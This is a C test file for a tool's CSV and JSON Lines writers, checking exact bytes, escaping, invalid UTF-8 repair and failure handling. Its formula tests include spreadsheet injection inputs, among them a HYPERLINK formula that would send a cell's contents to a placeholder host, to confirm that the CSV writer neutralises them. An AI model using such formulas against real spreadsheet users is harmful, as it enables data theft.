/*
 * t_write_text.c - the CSV and JSON Lines writers (write/write_csv.c,
 * write/write_jsonl.c over write/text_writer.c) on hand-built tables: the
 * exact bytes of every file (header, quoting, CRLF, NULL against the empty
 * text, 64-bit integers, shortest reals, NaN and infinities, control
 * characters, UTF-8 valid and not, NUL), a rank dropped after its rows were
 * put, a run never committed, a table without rows, an unwritable folder, a
 * file-size limit and every allocation failing in turn. The expected bytes
 * are written out by hand from RFC 4180, RFC 8259 and the rules in the
 * writers' heads, value by value (see the comments at each row).
 * argv[1]: a scratch directory.
 */
#include <math.h>
#include <signal.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/mem.h"
#include "check.h"
#include "files.h"
#include "trace/table.h"
#include "opmfu.h"
#include "write/text_writer.h"
#include "write/writer.h"

static char dir[4096];

static const struct opmfu_column cols[] = {
	{ "rank_id", OPMFU_COL_INT, "Rank", 0, 0 },
	{ "name", OPMFU_COL_TEXT, "Name", 0, OPMFU_COLF_MERGE },
	{ "start(ns)", OPMFU_COL_INT, "Start", 0, OPMFU_COLF_BIG_INT_TEXT },
	{ "ratio", OPMFU_COL_REAL, "Ratio", 0, OPMFU_COLF_PERCENT },
	{ "note", OPMFU_COL_TEXT, "Note", 0, 0 },
};
static const struct opmfu_table_def main_def = { "OpmfuT", cols, 5, "t", 0, NULL };

/* a column name that needs quoting in CSV and escaping in JSON */
static const struct opmfu_column odd_cols[] = {
	{ "rank_id", OPMFU_COL_INT, "Rank", 0, 0 },
	{ "x,\"y\"", OPMFU_COL_TEXT, "X", 0, 0 },
};
static const struct opmfu_table_def odd_def = { "OpmfuOdd", odd_cols, 2, NULL, 0, NULL };

/* ---- the rows: each with its spelling in both formats below ---- */

static void add(struct opmfu_cell_store *cs, struct opmfu_cell a, struct opmfu_cell b, struct opmfu_cell c,
		struct opmfu_cell d, struct opmfu_cell e)
{
	struct opmfu_err err = OPMFU_ERR_INIT;
	struct opmfu_cell row[5] = { a, b, c, d, e };
	CHECK_INT(opmfu_cell_store_add(cs, row, &err), OPMFU_OK);
}

#define I opmfu_cell_int
#define R opmfu_cell_real
#define S opmfu_cell_str
#define N opmfu_cell_null()

/* Rank 0's rows. */
static void rows_rank0(struct opmfu_cell_store *cs)
{
	/* A: plain text, a 19-digit timestamp, NULL note */
	add(cs, I(0), S("plain"), I(1736410576000010500LL), R(0.5), N);
	/* B: a comma and quotes need quoting; the largest int64; 0.1 + 0.2 needs 17 digits */
	add(cs, I(0), S("a,b"), I(INT64_MAX), R(0.1 + 0.2), S("say \"hi\""));
	/* C: CR LF inside a field; the smallest int64; 1e16 as Python spells it; an empty text */
	add(cs, I(0), S("line1\r\nline2"), I(INT64_MIN), R(1e16), S(""));
	/* D: UTF-8 passes as it is; -1; negative zero; a tab needs no quoting in CSV */
	add(cs, I(0), S("\xcf\x80\xe2\x89\x88" "3.14 \xe2\x82\xac"), I(-1), R(-0.0), S("tab\there"));
	/* E: NULL text; NaN (NULL in the database too); control bytes, DEL and a backslash */
	add(cs, I(0), N, I(0), R(NAN), S("\x01\x1f\x7f" "back\\slash"));
	/* F: invalid UTF-8 (a stray 0xFF, a cut 3-byte sequence); +inf; a NUL byte inside */
	add(cs, I(0), S("bad\xff\xe2\x82" "end"), I(5), R(INFINITY), opmfu_cell_text("nul\0in", 6));
	/* G: a formula-like text gets ' in front in CSV (test_formulas has the rest); -inf */
	add(cs, I(0), S("=1+2"), I(1), R(-INFINITY), S("x"));
	/* H: a surrogate, an overlong, an emoji, a cut emoji; the smallest subnormal */
	add(cs, I(0), S("\xed\xa0\x80|\xc0\xaf|\xf0\x9f\x98\x80|\xf0\x9f\x98"), I(2), R(5e-324), N);
}

static const char csv_head[] = "rank_id,name,start(ns),ratio,note\r\n";

/* RFC 4180: fields with , " CR LF quoted, quotes doubled; CRLF after every record */
static const char csv_rank0[] =
	"0,plain,1736410576000010500,0.5,\r\n"
	"0,\"a,b\",9223372036854775807,0.30000000000000004,\"say \"\"hi\"\"\"\r\n"
	"0,\"line1\r\nline2\",-9223372036854775808,1e+16,\"\"\r\n"
	"0,\xcf\x80\xe2\x89\x88" "3.14 \xe2\x82\xac,-1,-0.0,tab\there\r\n"
	"0,,0,,\x01\x1f\x7f" "back\\slash\r\n"
	"0,bad\xff\xe2\x82" "end,5,inf,nul\0in\r\n"
	"0,'=1+2,1,-inf,x\r\n"
	"0,\xed\xa0\x80|\xc0\xaf|\xf0\x9f\x98\x80|\xf0\x9f\x98,2,5e-324,\r\n";

/*
 * RFC 8259. Row F: 0xFF starts no sequence (one U+FFFD); E2 82 is the start
 * of a 3-byte sequence cut by 'e' (one U+FFFD for both bytes). Row H: ED A0
 * would be a surrogate, so ED alone is the maximal subpart, then A0 and 80
 * one each (3); C0 is never a lead byte, AF a lone continuation (2); the
 * emoji is valid; F0 9F 98 at the end is a cut 4-byte sequence (1).
 */
#define FFFD "\xef\xbf\xbd"
static const char json_rank0[] =
	"{\"rank_id\":0,\"name\":\"plain\",\"start(ns)\":1736410576000010500,\"ratio\":0.5,\"note\":null}\n"
	"{\"rank_id\":0,\"name\":\"a,b\",\"start(ns)\":9223372036854775807,\"ratio\":0.30000000000000004,"
	"\"note\":\"say \\\"hi\\\"\"}\n"
	"{\"rank_id\":0,\"name\":\"line1\\r\\nline2\",\"start(ns)\":-9223372036854775808,\"ratio\":1e+16,"
	"\"note\":\"\"}\n"
	"{\"rank_id\":0,\"name\":\"\xcf\x80\xe2\x89\x88" "3.14 \xe2\x82\xac\",\"start(ns)\":-1,\"ratio\":-0.0,"
	"\"note\":\"tab\\there\"}\n"
	"{\"rank_id\":0,\"name\":null,\"start(ns)\":0,\"ratio\":null,\"note\":\"\\u0001\\u001f\x7f" "back\\\\slash\"}\n"
	"{\"rank_id\":0,\"name\":\"bad" FFFD FFFD "end\",\"start(ns)\":5,\"ratio\":null,\"note\":\"nul\\u0000in\"}\n"
	"{\"rank_id\":0,\"name\":\"=1+2\",\"start(ns)\":1,\"ratio\":null,\"note\":\"x\"}\n"
	"{\"rank_id\":0,\"name\":\"" FFFD FFFD FFFD "|" FFFD FFFD "|\xf0\x9f\x98\x80|" FFFD "\",\"start(ns)\":2,"
	"\"ratio\":5e-324,\"note\":null}\n";

/* ---- helpers ---- */

/* The whole file; *n its size; NULL if it cannot be read. */
static char *slurp(const char *path, size_t *n)
{
	FILE *f = fopen(path, "rb");
	char *buf;
	long sz;
	if (!f)
		return NULL;
	fseek(f, 0, SEEK_END);
	sz = ftell(f);
	fseek(f, 0, SEEK_SET);
	buf = malloc((size_t)sz + 1);
	if (buf && fread(buf, 1, (size_t)sz, f) != (size_t)sz) {
		free(buf);
		buf = NULL;
	}
	fclose(f);
	*n = (size_t)sz;
	return buf;
}

/* Whether path holds exactly want[0..n). */
static int holds(const char *path, const char *want, size_t n)
{
	size_t got_n = 0;
	char *got = slurp(path, &got_n);
	int ok = got && got_n == n && !memcmp(got, want, n);
	if (!ok) {
		fprintf(stderr, "%s: %zu bytes, expected %zu:\n", path, got_n, n);
		if (got)
			fwrite(got, 1, got_n, stderr);
		fprintf(stderr, "\n--- expected:\n");
		fwrite(want, 1, n, stderr);
		fprintf(stderr, "\n");
	}
	free(got);
	return ok;
}

static int holds_str(const char *path, const char *want)
{
	return holds(path, want, strlen(want));
}

/* A fresh empty folder DIR/name into out. */
static void fresh(const char *name, char *out, size_t size)
{
	char cmd[9000];
	snprintf(out, size, "%s/%s", dir, name);
	snprintf(cmd, sizeof(cmd), "rm -rf '%s' && mkdir -p '%s'", out, out);
	CHECK_INT(system(cmd), 0);
}

/* ---- the tests ---- */

/* One rank, committed: the exact bytes of both formats. */
static void test_bytes(const char *fmt, const char *ext, const char *want, size_t want_n, size_t repaired,
		       size_t nulled, size_t prefixed)
{
	const struct opmfu_writer_type *wt = opmfu_writer_type_find(fmt);
	const struct opmfu_table_def *defs[] = { &main_def, &odd_def };
	struct opmfu_writer *w = NULL;
	struct opmfu_cell_store cs, odd;
	struct opmfu_table t;
	struct opmfu_write_stats ks;
	struct opmfu_err e = OPMFU_ERR_INIT;
	struct opmfu_cell orow[2] = { opmfu_cell_int(7), opmfu_cell_str("v") };
	char d[4200], path[4300];

	CHECK(wt && !strcmp(wt->where, fmt));
	if (!wt)
		return;
	fresh(fmt, d, sizeof(d));
	opmfu_cell_store_init(&cs, &main_def);
	opmfu_cell_store_init(&odd, &odd_def);
	rows_rank0(&cs);
	CHECK_INT(opmfu_cell_store_add(&odd, orow, &e), OPMFU_OK);
	CHECK_INT(wt->open(&w, d, defs, 2, &e), OPMFU_OK);
	/* staged: only temporary files so far */
	CHECK_INT(tmp_files(d), 2);
	CHECK_INT(dir_entries(d), 2);
	t = opmfu_cell_store_table(&cs);
	CHECK_INT(opmfu_writer_put(w, 0, &t, &e), OPMFU_OK);
	t = opmfu_cell_store_table(&odd);
	CHECK_INT(opmfu_writer_put(w, 0, &t, &e), OPMFU_OK);
	memset(&ks, 0xff, sizeof(ks));
	CHECK_INT(opmfu_writer_keep_rank(w, 0, &ks, &e), OPMFU_OK);
	CHECK_INT(ks.repaired, repaired);
	CHECK_INT(ks.nulled, nulled);
	CHECK_INT(ks.prefixed, prefixed);
	CHECK_INT(ks.truncated + ks.blanks + ks.files, 0);
	CHECK_INT(opmfu_writer_commit(w, &e), OPMFU_OK);
	opmfu_writer_close(w);
	CHECK_INT(tmp_files(d), 0);
	CHECK_INT(dir_entries(d), 2);
	snprintf(path, sizeof(path), "%s/OpmfuT%s", d, ext);
	CHECK(holds(path, want, want_n));
	snprintf(path, sizeof(path), "%s/OpmfuOdd%s", d, ext);
	if (!strcmp(fmt, "csv"))
		CHECK(holds_str(path, "rank_id,\"x,\"\"y\"\"\"\r\n7,v\r\n"));
	else
		CHECK(holds_str(path, "{\"rank_id\":7,\"x,\\\"y\\\"\":\"v\"}\n"));
	opmfu_cell_store_release(&cs);
	opmfu_cell_store_release(&odd);
}

/*
 * Issue 27: texts a spreadsheet would read as formulas. CSV puts ' in front
 * of a text cell starting with =, +, -, @, tab or CR (then quotes it as
 * RFC 4180 says), never of a number (-5, -1.5) nor of a text starting
 * otherwise; verbatim (--csv-verbatim) writes them as they are; JSON Lines
 * always does (a JSON string is never a formula).
 */
static void test_formulas(const char *fmt, int verbatim, const char *want, size_t prefixed)
{
	const struct opmfu_writer_type *wt = opmfu_writer_type_find(fmt);
	const struct opmfu_table_def *defs[] = { &main_def };
	struct opmfu_writer *w = NULL;
	struct opmfu_cell_store cs;
	struct opmfu_table t;
	struct opmfu_write_stats ks;
	struct opmfu_err e = OPMFU_ERR_INIT;
	char d[4200], path[4300];

	fresh(verbatim ? "formulas_verbatim" : "formulas", d, sizeof(d));
	opmfu_cell_store_init(&cs, &main_def);
	add(&cs, I(0), S("=HYPERLINK(\"http://x/?\"&A1,\"x\")"), I(-5), R(-1.5), S("+1"));
	add(&cs, I(-1), S("-x"), I(0), R(-0.0), S("@SUM(A1)"));
	add(&cs, I(0), S("\tx"), I(-9), R(0), S("\rx"));
	/* not at the start, after a space, already quoted, empty: as they are */
	add(&cs, I(0), S("a-b"), I(0), R(NAN), S(" =x"));
	add(&cs, I(0), S("'=x"), I(0), R(-INFINITY), S(""));
	CHECK_INT(wt->open(&w, d, defs, 1, &e), OPMFU_OK);
	if (verbatim)
		opmfu_csv_verbatim(w);
	t = opmfu_cell_store_table(&cs);
	CHECK_INT(opmfu_writer_put(w, 0, &t, &e), OPMFU_OK);
	memset(&ks, 0xff, sizeof(ks));
	CHECK_INT(opmfu_writer_keep_rank(w, 0, &ks, &e), OPMFU_OK);
	CHECK_INT(ks.prefixed, prefixed);
	CHECK_INT(opmfu_writer_commit(w, &e), OPMFU_OK);
	opmfu_writer_close(w);
	snprintf(path, sizeof(path), "%s/OpmfuT%s", d, wt->where[0] == 'c' ? ".csv" : ".jsonl");
	CHECK(holds_str(path, want));
	opmfu_cell_store_release(&cs);
}

static const char csv_formulas[] =
	"rank_id,name,start(ns),ratio,note\r\n"
	"0,\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\",-5,-1.5,'+1\r\n"
	"-1,'-x,0,-0.0,'@SUM(A1)\r\n"
	"0,'\tx,-9,0.0,\"'\rx\"\r\n"
	"0,a-b,0,, =x\r\n"
	"0,'=x,0,-inf,\"\"\r\n";

static const char csv_formulas_verbatim[] =
	"rank_id,name,start(ns),ratio,note\r\n"
	"0,\"=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"x\"\")\",-5,-1.5,+1\r\n"
	"-1,-x,0,-0.0,@SUM(A1)\r\n"
	"0,\tx,-9,0.0,\"\rx\"\r\n"
	"0,a-b,0,, =x\r\n"
	"0,'=x,0,-inf,\"\"\r\n";

static const char json_formulas[] =
	"{\"rank_id\":0,\"name\":\"=HYPERLINK(\\\"http://x/?\\\"&A1,\\\"x\\\")\",\"start(ns)\":-5,"
	"\"ratio\":-1.5,\"note\":\"+1\"}\n"
	"{\"rank_id\":-1,\"name\":\"-x\",\"start(ns)\":0,\"ratio\":-0.0,\"note\":\"@SUM(A1)\"}\n"
	"{\"rank_id\":0,\"name\":\"\\tx\",\"start(ns)\":-9,\"ratio\":0.0,\"note\":\"\\rx\"}\n"
	"{\"rank_id\":0,\"name\":\"a-b\",\"start(ns)\":0,\"ratio\":null,\"note\":\" =x\"}\n"
	"{\"rank_id\":0,\"name\":\"'=x\",\"start(ns)\":0,\"ratio\":null,\"note\":\"\"}\n";

/*
 * Three ranks: 0 kept, 1 dropped after rows in both tables, 2 kept; then a
 * second run that is never committed. The files hold ranks 0 and 2, and
 * after the second run still do. A table without rows gets its header
 * (CSV) or an empty file (JSON).
 */
static void test_ranks(const char *fmt, const char *ext, const char *head)
{
	const struct opmfu_writer_type *wt = opmfu_writer_type_find(fmt);
	const struct opmfu_table_def *defs[] = { &odd_def, &main_def };
	struct opmfu_writer *w = NULL;
	struct opmfu_cell_store cs[3], odd;
	struct opmfu_table t;
	struct opmfu_write_stats ks;
	struct opmfu_err e = OPMFU_ERR_INIT;
	char d[4200], path[4300], oddp[4300], want[512];
	int r;

	fresh(fmt, d, sizeof(d));
	snprintf(path, sizeof(path), "%s/OpmfuT%s", d, ext);
	snprintf(oddp, sizeof(oddp), "%s/OpmfuOdd%s", d, ext);
	opmfu_cell_store_init(&odd, &odd_def);
	for (r = 0; r < 3; r++) {
		opmfu_cell_store_init(&cs[r], &main_def);
		add(&cs[r], I(r), S("k"), I(10 + r), R(0.25 * r), N);
		add(&cs[r], I(r), S("m"), I(20 + r), R(1.5), S("z"));
	}
	CHECK_INT(wt->open(&w, d, defs, 2, &e), OPMFU_OK);
	for (r = 0; r < 3; r++) {
		t = opmfu_cell_store_table(&cs[r]);
		CHECK_INT(opmfu_writer_put(w, r, &t, &e), OPMFU_OK);
		t = opmfu_cell_store_table(&odd); /* no rows */
		CHECK_INT(opmfu_writer_put(w, r, &t, &e), OPMFU_OK);
		if (r == 1)
			CHECK_INT(opmfu_writer_drop_rank(w, r, &e), OPMFU_OK);
		else
			CHECK_INT(opmfu_writer_keep_rank(w, r, &ks, &e), OPMFU_OK);
	}
	/* dropping a rank that was kept takes nothing back */
	CHECK_INT(opmfu_writer_drop_rank(w, 2, &e), OPMFU_OK);
	CHECK_INT(opmfu_writer_commit(w, &e), OPMFU_OK);
	opmfu_writer_close(w);
	/* rows of rank 0 then 2; 0.25 * 2 = 0.5, 0.25 * 0 = 0.0 */
	if (!strcmp(fmt, "csv")) {
		snprintf(want, sizeof(want), "%s0,k,10,0.0,\r\n0,m,20,1.5,z\r\n2,k,12,0.5,\r\n2,m,22,1.5,z\r\n", head);
		CHECK(holds_str(oddp, "rank_id,\"x,\"\"y\"\"\"\r\n"));
	} else {
		snprintf(want, sizeof(want), "%s",
			 "{\"rank_id\":0,\"name\":\"k\",\"start(ns)\":10,\"ratio\":0.0,\"note\":null}\n"
			 "{\"rank_id\":0,\"name\":\"m\",\"start(ns)\":20,\"ratio\":1.5,\"note\":\"z\"}\n"
			 "{\"rank_id\":2,\"name\":\"k\",\"start(ns)\":12,\"ratio\":0.5,\"note\":null}\n"
			 "{\"rank_id\":2,\"name\":\"m\",\"start(ns)\":22,\"ratio\":1.5,\"note\":\"z\"}\n");
		CHECK(holds(oddp, "", 0));
	}
	CHECK(holds(path, want, strlen(want)));

	/* a run closed without commit leaves the files as they were, and no temporary file */
	CHECK_INT(wt->open(&w, d, defs, 2, &e), OPMFU_OK);
	t = opmfu_cell_store_table(&cs[1]);
	CHECK_INT(opmfu_writer_put(w, 1, &t, &e), OPMFU_OK);
	CHECK_INT(opmfu_writer_keep_rank(w, 1, &ks, &e), OPMFU_OK);
	opmfu_writer_close(w);
	CHECK(holds(path, want, strlen(want)));
	CHECK_INT(tmp_files(d), 0);
	CHECK_INT(dir_entries(d), 2);

	/* a table not given to open */
	CHECK_INT(wt->open(&w, d, defs + 1, 1, &e), OPMFU_OK);
	t = opmfu_cell_store_table(&odd);
	CHECK_INT(opmfu_writer_put(w, 0, &t, &e), OPMFU_ERR_USAGE);
	CHECK_STR(e.msg, "table OpmfuOdd was not opened");
	opmfu_writer_close(w);
	CHECK_INT(tmp_files(d), 0);
	for (r = 0; r < 3; r++)
		opmfu_cell_store_release(&cs[r]);
	opmfu_cell_store_release(&odd);
}

/* A folder that does not exist; a file-size limit hit while writing. */
static void test_faults(const char *fmt, const char *ext)
{
	const struct opmfu_writer_type *wt = opmfu_writer_type_find(fmt);
	const struct opmfu_table_def *defs[] = { &main_def };
	struct opmfu_writer *w = NULL;
	struct opmfu_cell_store cs;
	struct opmfu_table t;
	struct opmfu_err e = OPMFU_ERR_INIT;
	struct rlimit old, small;
	char d[4200], path[4300], want[4400];
	int i;

	CHECK_INT(wt->open(&w, "/nonexistent-opmfu-dir", defs, 1, &e), OPMFU_ERR_IO);
	snprintf(want, sizeof(want), "/nonexistent-opmfu-dir/OpmfuT%s: cannot create a file in /nonexistent-opmfu-dir: "
		 "No such file or directory", ext);
	CHECK(w == NULL);
	CHECK_STR(e.msg, want);

	fresh(fmt, d, sizeof(d));
	snprintf(path, sizeof(path), "%s/OpmfuT%s", d, ext);
	put_file(path, "earlier");
	opmfu_cell_store_init(&cs, &main_def);
	for (i = 0; i < 100; i++)
		add(&cs, I(i), S("a row of some length"), I(i), R(i), S("and some more text"));
	/* at most 1 KiB per file: write(2) fails with EFBIG (SIGXFSZ ignored) */
	signal(SIGXFSZ, SIG_IGN);
	CHECK_INT(getrlimit(RLIMIT_FSIZE, &old), 0);
	small = old;
	small.rlim_cur = 1024;
	CHECK_INT(setrlimit(RLIMIT_FSIZE, &small), 0);
	CHECK_INT(wt->open(&w, d, defs, 1, &e), OPMFU_OK);
	t = opmfu_cell_store_table(&cs);
	CHECK_INT(opmfu_writer_put(w, 0, &t, &e), OPMFU_ERR_IO);
	snprintf(want, sizeof(want), "%s: cannot write: File too large", path);
	CHECK_STR(e.msg, want);
	opmfu_writer_close(w);
	CHECK_INT(setrlimit(RLIMIT_FSIZE, &old), 0);
	CHECK(file_is(path, "earlier"));
	CHECK_INT(tmp_files(d), 0);
	opmfu_cell_store_release(&cs);
}

/* Every allocation of a whole run failing in turn: out of memory, the
 * earlier file intact and no temporary file; else the complete file. */
static void test_nomem(const char *fmt, const char *ext, const char *want, size_t want_n)
{
	const struct opmfu_writer_type *wt = opmfu_writer_type_find(fmt);
	const struct opmfu_table_def *defs[] = { &main_def, &odd_def };
	struct opmfu_cell_store cs;
	struct opmfu_table t;
	struct opmfu_write_stats ks;
	struct opmfu_err e;
	char d[4200], path[4300];
	long k, failed = 0;
	enum opmfu_status st = OPMFU_OK;

	fresh(fmt, d, sizeof(d));
	snprintf(path, sizeof(path), "%s/OpmfuT%s", d, ext);
	opmfu_cell_store_init(&cs, &main_def);
	rows_rank0(&cs);
	t = opmfu_cell_store_table(&cs);
	for (k = 1; k < 40; k++) {
		struct opmfu_writer *w = NULL;
		put_file(path, "earlier");
		memset(&e, 0, sizeof(e));
		opmfu_mem_fail_after(k);
		st = wt->open(&w, d, defs, 2, &e);
		if (!st)
			st = opmfu_writer_put(w, 0, &t, &e);
		if (!st)
			st = opmfu_writer_keep_rank(w, 0, &ks, &e);
		if (!st)
			st = opmfu_writer_commit(w, &e);
		opmfu_writer_close(w);
		opmfu_mem_fail_after(0);
		CHECK_INT(tmp_files(d), 0);
		if (st) {
			failed++;
			CHECK_INT(st, OPMFU_ERR_NOMEM);
			CHECK(strstr(e.msg, "out of memory") != NULL);
			CHECK(file_is(path, "earlier"));
		} else {
			CHECK(holds(path, want, want_n));
		}
	}
	/* the writer, its files, their names, the buffer: each can fail */
	CHECK(failed >= 6);
	CHECK_INT(st, OPMFU_OK);
	opmfu_cell_store_release(&cs);
}

int main(int argc, char **argv)
{
	char csv_all[1024], json_all[2048];
	size_t csv_n, json_n;

	if (argc < 2)
		return 2;
	snprintf(dir, sizeof(dir), "%s", argv[1]);
	mkdir(dir, 0777);
	/* the registry's order is the order of the export bits */
	CHECK(opmfu_writer_types[2] == opmfu_writer_type_find("csv") && OPMFU_EXPORT_CSV == 1 << 2);
	CHECK(opmfu_writer_types[3] == opmfu_writer_type_find("json") && OPMFU_EXPORT_JSON == 1 << 3);
	CHECK(opmfu_writer_types[4] == opmfu_writer_type_find("html") && OPMFU_EXPORT_HTML == 1 << 4);
	CHECK(opmfu_writer_types[5] == NULL);

	/* sizeof - 1: the literals hold NUL bytes */
	csv_n = sizeof(csv_head) - 1 + sizeof(csv_rank0) - 1;
	memcpy(csv_all, csv_head, sizeof(csv_head) - 1);
	memcpy(csv_all + sizeof(csv_head) - 1, csv_rank0, sizeof(csv_rank0) - 1);
	json_n = sizeof(json_rank0) - 1;
	memcpy(json_all, json_rank0, json_n);
	/* JSON: rows F and H repaired; +inf and -inf null */
	test_bytes("csv", ".csv", csv_all, csv_n, 0, 0, 1);
	test_bytes("json", ".jsonl", json_all, json_n, 2, 2, 0);
	test_formulas("csv", 0, csv_formulas, 6);
	test_formulas("csv", 1, csv_formulas_verbatim, 0);
	test_formulas("json", 0, json_formulas, 0);
	test_ranks("csv", ".csv", csv_head);
	test_ranks("json", ".jsonl", "");
	test_faults("csv", ".csv");
	test_faults("json", ".jsonl");
	test_nomem("csv", ".csv", csv_all, csv_n);
	test_nomem("json", ".jsonl", json_all, json_n);
	return check_done();
}
